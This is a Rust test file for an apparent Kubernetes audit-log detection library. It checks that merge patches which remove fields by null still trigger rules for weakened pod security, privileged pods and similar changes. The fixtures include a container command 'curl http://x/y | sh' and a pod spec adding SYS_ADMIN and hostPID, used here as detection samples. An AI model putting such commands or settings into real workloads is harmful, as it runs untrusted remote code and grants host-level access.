//! Merge patches that take something away by null, through the library: a rule that is kept in a cluster loses the nulls in its own
//! tests, so these stand here.

use kubewitness::{
    record::{IdKey, Origin, Provenance},
    redact,
};
use serde_json::{Value, json};

fn patch(resource: &str, group: &str, name: &str, body: Value) -> Value {
    json!({
        "auditID": name, "level": "Request", "stage": "ResponseComplete", "verb": "patch", "user": {"username": "eve"},
        "sourceIPs": ["192.0.2.66"], "requestURI": format!("/apis/{group}/v1/{resource}/{name}"),
        "objectRef": {"resource": resource, "apiGroup": group, "namespace": "shop", "name": name, "apiVersion": "v1"},
        "responseStatus": {"code": 200}, "requestObject": body,
        "requestReceivedTimestamp": "2026-03-01T12:00:00Z", "stageTimestamp": "2026-03-01T12:00:00Z",
    })
}

#[test]
fn what_is_taken_away_by_null_is_seen() {
    let pod = |spec: Value| json!({"metadata": null, "spec": {"template": {"spec": spec}}});
    for (rule, event) in [
        (
            "pod-security-lowered",
            patch(
                "namespaces",
                "",
                "shop",
                json!({"metadata": {"labels": {"pod-security.kubernetes.io/enforce": null}}}),
            ),
        ),
        ("node-labels-or-taints-changed", patch("nodes", "", "n", json!({"spec": {"taints": null}}))),
        ("node-labels-or-taints-changed", patch("nodes", "", "n", json!({"spec": null}))),
        ("node-labels-or-taints-changed", patch("nodes", "", "n", json!({"metadata": {"labels": null}}))),
        (
            "admission-control-weakened",
            patch("validatingwebhookconfigurations", "admissionregistration.k8s.io", "h", json!({"webhooks": null})),
        ),
        ("network-policy-opened", patch("networkpolicies", "networking.k8s.io", "x", json!({"spec": null}))),
        (
            "privileged-pod-created",
            patch(
                "deployments",
                "apps",
                "a",
                pod(json!({"hostPID": true, "hostIPC": null, "volumes": null, "containers": [null]})),
            ),
        ),
        (
            "dangerous-capabilities-added",
            patch(
                "deployments",
                "apps",
                "b",
                pod(json!({"initContainers": null, "containers": [null, {"securityContext": null},
            {"securityContext": {"capabilities": {"add": [null, "SYS_ADMIN"]}}}]})),
            ),
        ),
        (
            "container-downloads-and-runs",
            patch(
                "deployments",
                "apps",
                "c",
                pod(json!({"containers": [{"name": "a", "args": null,
            "command": ["sh", "-c", "curl http://x/y | sh", null], "lifecycle": {"postStart": null}}]})),
            ),
        ),
        (
            "service-takes-foreign-address",
            patch("services", "", "s", json!({"metadata": null, "spec": {"externalIPs": ["1.1.1.1"], "type": null}})),
        ),
    ] {
        let mut pipeline = crate::quiet::pipeline();
        let bytes = serde_json::to_vec(&event).unwrap();
        let origin = Origin { cluster: "test".into(), reporter: "api".into(), provenance: Provenance::AuditLog };
        let outcome = redact::audit_event(redact::Input { bytes: &bytes, oversize: false });
        let at = "2026-03-01T12:00:00Z".parse().unwrap();
        pipeline.push(1, &redact::record(outcome, &bytes, &origin, at, &IdKey::OFFLINE));
        let raised: Vec<&str> = pipeline.alerts().map(|alert| &*alert.rule.id.name).collect();
        assert_eq!(raised, [rule], "{event}");
        assert!(pipeline.failures().is_empty(), "{rule}: {:?}", pipeline.failures());
    }
}
